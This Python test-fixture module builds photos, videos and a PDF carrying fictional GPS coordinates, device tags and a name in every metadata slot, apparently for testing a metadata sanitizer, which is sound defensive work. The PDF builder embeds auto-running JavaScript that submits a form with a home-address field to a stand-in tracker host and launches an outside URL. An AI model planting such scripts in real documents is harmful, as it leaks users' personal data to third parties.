"""Files built to carry a location, a device and a name in every place a format allows.

Each builder returns (file name, bytes). The place is always the same fictional point
(HOME_LAT/HOME_LON) and the person the same fictional name, so tests can look for them.
Videos are made with the ffmpeg CLI, extra tags with exiftool: both come with the checker
(tests.media_checker) and are required in CI.
"""

import io
import subprocess
import tempfile
from pathlib import Path

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from tests.conftest import fixture_path
from tests.core import images as h
from tests.media_checker import require

HOME_LAT, HOME_LON = "48.8577", "2.2950"
ISO6709 = "+48.8577+002.2950/"
NAME = "Jane Doe"
SEI_UUID = "086f3693-b7b3-4f2c-9653-21492feee5b8"
XMP = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
    b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="48,51.462N" '
    b'exif:GPSLongitude="2,17.7E"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
)


def _run(*args: str):
    subprocess.run(args, check=True, capture_output=True)


def gps_jpeg_path() -> str:
    return fixture_path("images", "DSCN0010.jpg")


# Pictures ------------------------------------------------------------------------------


def jpeg_with_iptc_xmp_and_thumbnail() -> tuple[str, bytes]:
    """A real camera JPEG with IPTC, XMP GPS and an EXIF thumbnail added by exiftool."""
    tool = require("exiftool")
    with tempfile.TemporaryDirectory() as folder:
        thumb = Path(folder, "thumb.jpg")
        Image.new("RGB", (32, 24), "red").save(thumb, "JPEG")
        out = Path(folder, "out.jpg")
        _run(
            tool,
            "-o",
            str(out),
            f"-IPTC:By-line={NAME}",
            "-IPTC:City=Springfield",
            f"-XMP-exif:GPSLatitude={HOME_LAT}",
            f"-XMP-exif:GPSLongitude={HOME_LON}",
            f"-XMP-dc:Creator={NAME}",
            f"-Artist={NAME}",
            f"-Copyright={NAME}",
            "-SerialNumber=SN-0042",
            f"-ThumbnailImage<={thumb}",
            gps_jpeg_path(),
        )
        return "IMG_0042.jpg", out.read_bytes()


def png_with_every_chunk() -> tuple[str, bytes]:
    image = Image.new("RGB", (64, 48), (10, 20, 30))
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", NAME)
    info.add_text("Comment", f"at {HOME_LAT},{HOME_LON}", zip=True)  # zTXt
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"
    exif.get_ifd(0x8825)[2] = (48.0, 51.0, 27.0)
    buffer = io.BytesIO()
    image.save(buffer, "PNG", pnginfo=info, exif=exif, icc_profile=_device_icc())
    return "screenshot.png", buffer.getvalue()


def webp_with_exif_and_xmp() -> tuple[str, bytes]:
    return "photo.webp", h.webp_with_exif()


def gif_with_comment_and_xmp() -> tuple[str, bytes]:
    tool = require("exiftool")
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder, "in.gif")
        source.write_bytes(h.animated_gif_with_comment())
        out = Path(folder, "out.gif")
        _run(tool, "-o", str(out), f"-XMP-dc:Creator={NAME}", str(source))
        return "wave.gif", out.read_bytes()


def _device_icc() -> bytes:
    """A colour profile as a phone writes it: made by Apple, for a device."""
    with Image.open(fixture_path("images", "portrait_6.jpg")) as image:
        return image.info["icc_profile"]


def hostile_images() -> list[tuple[str, bytes]]:
    """Every picture an upload path must clean: real camera and phone files and built ones."""
    real = [(name, h.read_fixture(name)) for name in h.GPS_PHOTOS]
    real += [(name, h.read_fixture(name)) for name in ("portrait_6.jpg", "landscape_8.jpg")]
    return [
        *real,
        ("everything.jpg", h.jpeg_with_everything()),
        jpeg_with_iptc_xmp_and_thumbnail(),
        png_with_every_chunk(),
        webp_with_exif_and_xmp(),
        gif_with_comment_and_xmp(),
    ]


# Videos --------------------------------------------------------------------------------

PHONE_TAGS = [
    "-metadata",
    f"location={ISO6709}",
    "-metadata",
    f"com.apple.quicktime.location.ISO6709={ISO6709}",
    "-metadata",
    "com.apple.quicktime.make=Apple",
    "-metadata",
    "com.apple.quicktime.model=iPhone 15",
    "-metadata",
    "make=Apple",
    "-metadata",
    "model=iPhone 15",
    "-metadata",
    "creation_time=2026-01-02T03:04:05Z",
    "-metadata",
    f"title=IMG_0042 at {NAME}'s home",
    "-metadata",
    f"artist={NAME}",
    "-metadata:s:v:0",
    f"title={NAME} camera",
    "-metadata:s:a:0",
    f"handler_name={NAME} microphone",
]


def _chapters(folder: Path) -> Path:
    path = folder / "chapters.txt"
    path.write_text(
        ";FFMETADATA1\n[CHAPTER]\nTIMEBASE=1/1000\nSTART=0\nEND=500\n"
        f"title=Arriving at {NAME}'s home\n"
    )
    return path


def _subtitles(folder: Path) -> Path:
    path = folder / "subs.srt"
    path.write_text(f"1\n00:00:00,000 --> 00:00:01,000\n{NAME}, {ISO6709}\n")
    return path


def phone_mp4_with_extra_tracks(container: str = "mp4") -> tuple[str, bytes]:
    """H.264 (x264's own SEI plus a GPS SEI) and AAC, a second video track of MJPEG frames
    cut from a GPS-tagged JPEG and larger than the picture, cover art, subtitles,
    chapters and every location key a phone writes."""
    ffmpeg = require("ffmpeg")
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        out = folder / f"IMG_0042.{container}"
        _run(
            ffmpeg, "-v", "error", "-y",
            "-f", "lavfi", "-i", "testsrc=size=160x120:rate=10:duration=1",
            "-f", "lavfi", "-i", "sine=frequency=440:duration=1",
            "-loop", "1", "-framerate", "10", "-t", "1", "-i", gps_jpeg_path(),
            "-i", str(_subtitles(folder)),
            "-i", str(_chapters(folder)),
            "-i", gps_jpeg_path(),
            "-map", "0:v", "-map", "1:a", "-map", "2:v", "-map", "3:s", "-map", "5:v",
            "-map_metadata", "4", "-map_chapters", "4",
            "-c:v:0", "libx264", "-pix_fmt:v:0", "yuv420p",
            "-bsf:v:0", f"h264_metadata=sei_user_data={SEI_UUID}+GPS {ISO6709}",
            "-c:v:1", "copy", "-c:v:2", "copy", "-disposition:v:2", "attached_pic",
            "-c:a", "aac", "-c:s", "mov_text",
            "-movflags", "+use_metadata_tags",
            *PHONE_TAGS,
            "-f", "mov" if container == "mov" else "mp4",
            str(out),
        )  # fmt: skip
        return out.name, out.read_bytes()


def hevc_mov_with_location() -> tuple[str, bytes]:
    """HEVC (x265 writes its settings in SEI) in a QuickTime file with location keys."""
    ffmpeg = require("ffmpeg")
    with tempfile.TemporaryDirectory() as tmp:
        out = Path(tmp, "IMG_0043.mov")
        _run(
            ffmpeg, "-v", "error", "-y",
            "-f", "lavfi", "-i", "testsrc=size=160x120:rate=10:duration=1",
            "-c:v", "libx265", "-x265-params", "log-level=error", "-pix_fmt", "yuv420p",
            "-tag:v", "hvc1", "-movflags", "+use_metadata_tags", *PHONE_TAGS[:16],
            "-f", "mov", str(out),
        )  # fmt: skip
        return out.name, out.read_bytes()


def webm_with_attachment() -> tuple[str, bytes]:
    """Matroska named .webm: VP8 and Opus, a file attachment, subtitles, tags, chapters."""
    ffmpeg = require("ffmpeg")
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        out = folder / "clip.webm"
        _run(
            ffmpeg, "-v", "error", "-y",
            "-f", "lavfi", "-i", "testsrc=size=160x120:rate=10:duration=1",
            "-f", "lavfi", "-i", "sine=frequency=440:duration=1",
            "-i", str(_subtitles(folder)),
            "-i", str(_chapters(folder)),
            "-map", "0:v", "-map", "1:a", "-map", "2:s",
            "-map_metadata", "3", "-map_chapters", "3",
            "-c:v", "libvpx", "-c:a", "libopus", "-c:s", "srt",
            "-attach", gps_jpeg_path(), "-metadata:s:t", "mimetype=image/jpeg",
            *PHONE_TAGS[:16],
            "-f", "matroska", str(out),
        )  # fmt: skip
        return out.name, out.read_bytes()


def hostile_videos() -> list[tuple[str, bytes]]:
    return [
        phone_mp4_with_extra_tracks("mp4"),
        phone_mp4_with_extra_tracks("mov"),
        hevc_mov_with_location(),
        webm_with_attachment(),
    ]


# PDFs ----------------------------------------------------------------------------------


def _image_xobject(jpeg: bytes, **extra) -> DecodedStreamObject:
    with Image.open(io.BytesIO(jpeg)) as image:
        width, height = image.size
    stream = DecodedStreamObject()
    stream.set_data(jpeg)
    stream.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(width),
            NameObject("/Height"): NumberObject(height),
            NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
            NameObject("/BitsPerComponent"): NumberObject(8),
            NameObject("/Filter"): NameObject("/DCTDecode"),
            **extra,
        }
    )
    return stream


def _xmp_stream(writer: PdfWriter):
    stream = DecodedStreamObject()
    stream.set_data(XMP)
    stream.update(
        {NameObject("/Type"): NameObject("/Metadata"), NameObject("/Subtype"): NameObject("/XML")}
    )
    return writer._add_object(stream)


def _js(code: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(code),
        }
    )


def _small_gps_jpeg() -> bytes:
    """A tiny JPEG that still carries the camera's EXIF with GPS (for an inline image)."""
    with Image.open(gps_jpeg_path()) as photo:
        exif = photo.info["exif"]
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "blue").save(buffer, "JPEG", exif=exif)
    return buffer.getvalue()


def scanned_pdf() -> tuple[str, bytes]:
    """A "scan to PDF" with GPS photos as an XObject, in a Form XObject and inline, plus
    scripts, a form, an attached file, XMP everywhere and a document information."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=300, height=300)
    photo = open(gps_jpeg_path(), "rb").read()  # noqa: SIM115 (read in one go)
    icc = DecodedStreamObject()
    icc.set_data(_device_icc())
    icc.update({NameObject("/N"): NumberObject(3), NameObject("/Metadata"): _xmp_stream(writer)})
    image = writer._add_object(
        _image_xobject(
            photo,
            **{
                NameObject("/Metadata"): _xmp_stream(writer),
                NameObject("/ColorSpace"): ArrayObject(
                    [NameObject("/ICCBased"), writer._add_object(icc)]
                ),
            },
        )
    )
    inner = writer._add_object(_image_xobject(photo))
    form = DecodedStreamObject()
    form.set_data(b"q 100 0 0 75 0 0 cm /Inner Do Q")
    form.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Form"),
            NameObject("/BBox"): ArrayObject([NumberObject(0)] * 2 + [NumberObject(100)] * 2),
            NameObject("/Resources"): DictionaryObject(
                {NameObject("/XObject"): DictionaryObject({NameObject("/Inner"): inner})}
            ),
            NameObject("/Metadata"): _xmp_stream(writer),
        }
    )
    form_ref = writer._add_object(form)
    page[NameObject("/Resources")] = DictionaryObject(
        {
            NameObject("/XObject"): DictionaryObject(
                {NameObject("/Photo"): image, NameObject("/Scan"): form_ref}
            )
        }
    )
    inline = _small_gps_jpeg()
    contents = DecodedStreamObject()
    contents.set_data(
        b"q 200 0 0 150 0 0 cm /Photo Do Q q 1 0 0 1 0 160 cm /Scan Do Q "
        b"q 8 0 0 8 250 250 cm BI /W 8 /H 8 /CS /RGB /BPC 8 /F /DCT ID " + inline + b"\nEI Q"
    )
    page[NameObject("/Contents")] = writer._add_object(contents)
    page[NameObject("/Metadata")] = _xmp_stream(writer)
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js("app.alert('open')")})
    rect = ArrayObject([FloatObject(v) for v in (10, 10, 90, 40)])
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): rect,
            NameObject("/A"): _js("this.submitForm('https://tracker.example/')"),
        }
    )
    widget = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Widget"),
                NameObject("/FT"): NameObject("/Tx"),
                NameObject("/T"): TextStringObject("home_address"),
                NameObject("/V"): TextStringObject("5 Secret Street"),
                NameObject("/Rect"): rect,
                NameObject("/AA"): DictionaryObject({NameObject("/K"): _js("leak()")}),
            }
        )
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link), widget])
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([widget])}
    )
    names = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("x"), _js("app.alert('doc');")])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(names)}
    )
    writer._root_object[NameObject("/OpenAction")] = _js("app.launchURL('https://x.example');")
    writer.add_attachment("home.jpg", photo)  # joins the /Names tree above
    writer._root_object[NameObject("/Metadata")] = _xmp_stream(writer)
    writer.add_metadata({"/Author": NAME, "/Creator": "Pixel 8 Scanner", "/Title": "Lease"})
    out = io.BytesIO()
    writer.write(out)
    return "scan.pdf", out.getvalue()
